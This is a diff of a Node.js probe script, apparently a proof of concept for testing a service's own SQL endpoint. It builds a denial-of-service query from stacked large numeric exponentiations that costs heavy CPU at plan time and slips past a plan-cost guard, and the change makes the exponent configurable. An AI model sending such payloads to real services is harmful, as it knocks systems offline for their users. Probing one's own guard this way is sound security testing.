@@ -1,9 +1,10 @@
 // Probe: /sql/db plan-time constant folding. The guard allows any operator (A_Expr) and the planner folds
 // constant expressions during EXPLAIN, before the plan-cost check; the estimate is ~0.01.
-// Usage: node probe/sql-planning-dos.mjs http://127.0.0.1:42069 [N]
+// Usage: node probe/sql-planning-dos.mjs http://127.0.0.1:42069 [terms N] [exponent]
 const base = process.argv[2] ?? "http://127.0.0.1:42069";
 const n = Number(process.argv[3] ?? 4);
-const term = "length((9.0::numeric ^ 60000)::text)";
+const exp = Number(process.argv[4] ?? 60000);
+const term = `length((9.0::numeric ^ ${exp})::text)`;
 const sql = `SELECT ${Array.from({ length: n }, () => term).join(" + ")} AS x FROM award_winner LIMIT 1`;
 const q = encodeURIComponent(JSON.stringify({ json: { sql, params: [] } }));
 console.log(`sql: ${sql.length} chars, ${n} terms`);
